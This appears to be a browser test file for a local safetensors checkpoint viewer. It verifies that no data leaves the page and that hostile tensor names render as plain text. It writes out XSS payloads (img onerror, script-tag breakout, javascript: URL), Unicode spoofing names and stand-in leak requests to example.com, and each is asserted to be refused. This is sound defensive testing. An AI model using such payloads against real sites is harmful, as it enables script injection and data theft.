// @ts-check
// Nothing leaves the page, and nothing in a file becomes markup or script.
import assert from 'node:assert/strict';
import { join } from 'node:path';
import { test } from 'node:test';
import { openTensor, origin, patience_ms, phase, pick, scratch, text, useBrowser } from './harness.mjs';
import { leaving } from './support/builds.mjs';
import { bf16, write } from './support/checkpoint.mjs';
import { requestsOfThePage } from './support/server.mjs';

const { open, seen } = useBrowser();
const options = { timeout: patience_ms };

test('no request carries anything away while a file is scanned', options, async () => {
  const { page, errors } = await open();
  const before = seen().length;
  await pick(page, write(join(scratch, 'secret.safetensors'), [bf16('secret', [2000, 1000], 1)]));
  await phase(page, 'done');
  await openTensor(page, 'secret');
  assert.deepEqual(leaving(seen().slice(before)), []);
  assert.deepEqual(errors, []);
});

test('the policy of the page forbids other origins, inline scripts and evaluation', options, async () => {
  const { page } = await open();
  const before = seen().length;
  const outcome = await page.evaluate(async () => {
    const refused = () => 'refused';
    const request = fetch('https://example.com/?leak').then(() => 'sent', refused);
    const image = new Promise((resolve) => {
      const element = new Image();
      element.onerror = () => resolve('refused');
      element.onload = () => resolve('sent');
      element.src = 'https://example.com/leak.png';
    });
    document.body.dataset.inline = 'refused';
    const script = document.createElement('script');
    try {
      script.textContent = 'document.body.dataset.inline = "ran"';
    } catch {
      // Trusted Types refuse the string before the policy sees the script.
    }
    document.body.append(script);
    const markup = (() => {
      try {
        document.createElement('p').innerHTML = '<b>x</b>';
        return 'parsed';
      } catch {
        return 'refused';
      }
    })();
    return { request: await request, image: await image, inline: document.body.dataset.inline, markup };
  });
  const refused = 'refused';
  assert.deepEqual(outcome, { request: refused, image: refused, inline: refused, markup: refused });
  const outside = requestsOfThePage(seen().slice(before)).filter(({ url }) => !url.startsWith(origin));
  assert.deepEqual(outside, []);
});

test('what turns text around or is not seen in a name is made visible', options, async () => {
  const { page, errors } = await open();
  const names = ['rtl\u202eevil.weight', 'zero\u200bwidth', 'a\nb'];
  await pick(page, write(join(scratch, 'turned.safetensors'), names.map((name, seed) => bf16(name, [4, 4], seed))));
  assert.equal(await phase(page, 'done', 'failed'), 'done');
  await page.$eval('#tensors', (list) => list.scrollIntoView());
  await page.waitForSelector('[data-tensor]');
  const shown = await page.$$eval('[data-tensor] .c-name', (cells) => cells.map(({ textContent }) => textContent));
  assert.deepEqual(shown, ['a\\nb', 'rtl\\u{202e}evil.weight', 'zero\\u{200b}width']);
  await page.click('[data-tensor]:nth-child(2)');
  await page.waitForFunction(() => document.querySelector('#tensor-name')?.textContent === 'rtl\\u{202e}evil.weight');
  assert.equal(await page.evaluate(() => /[\u202e\u200b]/.test(document.querySelector('main')?.textContent ?? '')), false);
  assert.deepEqual(errors, []);
  await page.close();
});

test('hostile names are shown as text', options, async () => {
  const { page, errors } = await open();
  const names = [
    '<img src=x onerror="document.body.dataset.owned=1">',
    '"><script>document.body.dataset.owned=1</script>',
    'javascript:alert(1)',
    '${1+1}{{1+1}}',
    '\u202eright to left\u0000nul\nnew line',
    'a'.repeat(5000),
  ];
  const path = join(scratch, '<b>hostile<b>.safetensors');
  await pick(page, write(path, names.map((name, seed) => bf16(name, [4, 4], seed))));
  assert.equal(await phase(page, 'done', 'failed'), 'done');
  await page.$eval('#tensors', (list) => list.scrollIntoView());
  await page.waitForSelector('[data-tensor]');
  const shown = await page.$$eval('[data-tensor]', (rows) =>
    rows.map((row) => /** @type {HTMLElement} */ (row).dataset.tensor),
  );
  assert(shown.includes(names[0]), JSON.stringify(shown));
  await openTensor(page, names[0]);
  assert((await text(page, '#tensor')).includes(names[0]));
  const harm = await page.evaluate(() => ({
    owned: document.body.dataset.owned ?? null,
    images: document.querySelectorAll('main img').length,
    scripts: document.querySelectorAll('main script').length,
  }));
  assert.deepEqual(harm, { owned: null, images: 0, scripts: 0 });
  assert.deepEqual(errors, []);
});
